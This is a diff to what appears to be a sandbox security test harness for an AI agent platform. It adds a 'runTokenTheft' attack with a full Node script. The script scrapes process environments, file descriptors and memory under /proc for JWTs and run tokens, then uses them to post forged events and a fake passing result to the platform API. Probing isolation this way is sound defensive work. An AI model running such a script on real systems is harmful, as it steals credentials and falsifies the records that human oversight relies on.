@@ -21,6 +21,8 @@ export interface AttackTargets {
   foreignWorkspace: string;
   /** A loopback TCP port on the host that counts connections. */
   hostServicePort: number;
+  /** The platform API the runners talk to (reachable from the sandbox, as for the runner). */
+  apiUrl: string;
 }
 
 export interface Attack {
@@ -109,9 +111,125 @@ export const ATTACKS = {
         `node -e "const s=require('net').connect(${t.hostServicePort},'127.0.0.1');s.on('connect',()=>{require('fs').writeFileSync('findings/host.txt','connected');s.end()});s.on('error',e=>require('fs').writeFileSync('findings/host.txt',String(e.code)))"`,
       ].join('\n'),
   },
+  /**
+   * Stealing the runner's run token: every /proc/<pid>/environ, cmdline, readable fd and the
+   * writable memory of every process the agent can see, searched for OMAKASE_ variables and
+   * JWTs; then a forged tester result (costUsd 0) and forged events posted to the platform with
+   * whatever was found. What it saw and what the platform answered go to `findings/`.
+   */
+  runTokenTheft: {
+    name: "the runner's run token through /proc, then forged results and events",
+    shell: (t) =>
+      [
+        'mkdir -p findings',
+        "cat > findings/steal.cjs <<'EOF'",
+        STEAL_SCRIPT,
+        'EOF',
+        `node findings/steal.cjs '${t.apiUrl}' > findings/steal.log 2>&1 || true`,
+      ].join('\n'),
+  },
 } satisfies Record<string, Attack>;
 
 export type AttackName = keyof typeof ATTACKS;
+
+/** What `runTokenTheft` leaves in `findings/token-theft.json`. */
+export interface TokenTheftFindings {
+  scanned: { environ: number; cmdline: number; fds: number; memBytes: number };
+  /** Every JWT-shaped string found anywhere. */
+  tokens: string[];
+  /** `OMAKASE_*=` assignments found (value cut short), with where they were found. */
+  omakaseLines: string[];
+  /** The platform's answers to the forged requests. */
+  forged: { endpoint: string; withFoundToken: boolean; status: number | string }[];
+}
+
+/** Node (CommonJS) run by the `runTokenTheft` shell; no backticks (it travels inside a script block). */
+const STEAL_SCRIPT = String.raw`
+const fs = require('fs');
+const api = process.argv[2];
+const JWT = /eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/g;
+const out = { scanned: { environ: 0, cmdline: 0, fds: 0, memBytes: 0 }, tokens: [], omakaseLines: [], forged: [] };
+const tokens = new Set();
+const vars = {};
+function grab(where, text) {
+  for (const m of text.matchAll(JWT)) tokens.add(m[0]);
+  for (const line of text.split(/[\0\n]/)) {
+    const v = /^(OMAKASE_[A-Z_]+)=(.*)$/.exec(line);
+    if (v) vars[v[1]] = v[2];
+    if (v && out.omakaseLines.length < 200) out.omakaseLines.push(where + ': ' + v[1] + '=' + v[2].slice(0, 12));
+  }
+}
+const read = (path) => { try { return fs.readFileSync(path, 'latin1'); } catch { return null; } };
+for (const pid of fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n))) {
+  if (pid === String(process.pid)) continue;
+  for (const kind of ['environ', 'cmdline']) {
+    const text = read('/proc/' + pid + '/' + kind);
+    if (text !== null) { out.scanned[kind]++; grab(pid + '/' + kind, text); }
+  }
+  let fds = [];
+  try { fds = fs.readdirSync('/proc/' + pid + '/fd'); } catch {}
+  for (const fd of fds) {
+    const path = '/proc/' + pid + '/fd/' + fd;
+    try {
+      if (!fs.statSync(path).isFile()) continue;
+      const text = read(path);
+      if (text !== null) { out.scanned.fds++; grab(pid + '/fd/' + fd, text.slice(0, 1 << 20)); }
+    } catch {}
+  }
+  const maps = read('/proc/' + pid + '/maps');
+  if (maps === null) continue;
+  let mem;
+  try { mem = fs.openSync('/proc/' + pid + '/mem', 'r'); } catch { continue; }
+  for (const line of maps.split('\n')) {
+    const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);
+    if (!m || out.scanned.memBytes > (256 << 20)) continue;
+    const start = parseInt(m[1], 16);
+    const length = Math.min(parseInt(m[2], 16) - start, 16 << 20);
+    const buf = Buffer.alloc(length);
+    try {
+      const n = fs.readSync(mem, buf, 0, length, start);
+      out.scanned.memBytes += n;
+      let at = buf.indexOf('eyJ');
+      while (at !== -1 && at < n) {
+        const hit = /^eyJ[A-Za-z0-9_.-]+/.exec(buf.toString('latin1', at, Math.min(n, at + 2048)));
+        if (hit) for (const t of hit[0].matchAll(JWT)) tokens.add(t[0]);
+        at = buf.indexOf('eyJ', at + 3);
+      }
+      if (buf.indexOf('OMAKASE_RUN_TOKEN=') !== -1) grab(pid + '/mem', buf.toString('latin1', 0, n));
+    } catch {}
+  }
+  fs.closeSync(mem);
+}
+out.tokens = [...tokens];
+const base = vars.OMAKASE_API_URL || api;
+const runId = vars.OMAKASE_RUN_ID || 'run_0unknown';
+const fake = {
+  outcome: 'succeeded',
+  exitReason: 'submitted',
+  output: { verdict: 'pass', passed: 99, failed: 0, summary: 'forged' },
+  usage: { tokensIn: 0, tokensOut: 0, costUsd: 0, durationMs: 1 },
+};
+const events = { events: Array.from({ length: 200 }, (_, i) => ({ seq: 100000 + i, type: 'thought', payload: { text: 'forged' }, occurredAt: new Date().toISOString() })) };
+async function forge(endpoint, body, token, found) {
+  try {
+    const res = await fetch(base + '/api/v1/runs/' + runId + '/' + endpoint, {
+      method: 'POST',
+      headers: { authorization: 'Bearer ' + token, 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+      signal: AbortSignal.timeout(5000),
+    });
+    out.forged.push({ endpoint, withFoundToken: found, status: res.status });
+  } catch (error) {
+    out.forged.push({ endpoint, withFoundToken: found, status: String(error && error.code || error) });
+  }
+}
+(async () => {
+  const candidates = [...new Set([vars.OMAKASE_RUN_TOKEN, ...tokens].filter(Boolean))];
+  for (const token of candidates) { await forge('events', events, token, true); await forge('result', fake, token, true); }
+  if (candidates.length === 0) { await forge('events', events, 'no-token-found', false); await forge('result', fake, 'no-token-found', false); }
+  fs.writeFileSync('findings/token-theft.json', JSON.stringify(out, null, 2));
+})();
+`;
 
 /** The feature description that makes the scripted model play `attack` (see model-server's injected.ts). */
 export function attackDescription(attack: Attack, targets: AttackTargets): string {
